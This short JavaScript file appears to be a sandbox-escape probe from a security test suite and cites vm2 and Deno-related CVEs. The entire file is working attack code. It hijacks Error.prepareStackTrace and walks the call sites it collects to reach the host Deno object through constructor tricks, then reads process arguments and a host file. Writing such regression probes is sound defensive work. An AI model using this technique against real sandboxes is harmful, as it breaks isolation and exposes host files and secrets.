// Tries: getThis and getFunction of every call site, by way of Error.prepareStackTrace, also for errors that the
// platform makes.
// Origin: vm2 CVE-2022-36067 and CVE-2023-29017 (prepareStackTrace); CVE-2026-22686.

const found = [];
function dig(value, depth = 0) {
  if (value === null || !["object", "function"].includes(typeof value) || depth > 4) return;
  try {
    const platform = value.Deno ?? value.constructor.constructor("return Deno")();
    found.push(platform.args, platform.readTextFileSync(input.file));
  } catch { /* on */ }
  for (const name of Reflect.ownKeys(value)) {
    try {
      const own = Object.getOwnPropertyDescriptor(value, name);
      if (typeof own.value === "string") found.push(own.value);
      dig(own.value, depth + 1);
    } catch { /* on */ }
  }
}

const sites = [];
Error.prepareStackTrace = (error, list) => {
  sites.push(...list);
  return "";
};
`${new Error("mine").stack}`;
const attempts = [() => null.x, () => new URL("no"), () => structuredClone(() => {}), () => atob("%"), () => new Array(-1)];
for (const attempt of attempts) {
  try {
    attempt();
  } catch (error) {
    `${error.stack}`;
  }
}
try {
  await tools.fail({});
} catch (error) {
  `${error.stack}`;
}
for (const site of sites) {
  for (const method of ["getThis", "getFunction", "getEvalOrigin"]) {
    try {
      dig(site[method]?.());
    } catch { /* on */ }
  }
  dig(Object.getPrototypeOf(site));
}
return found;
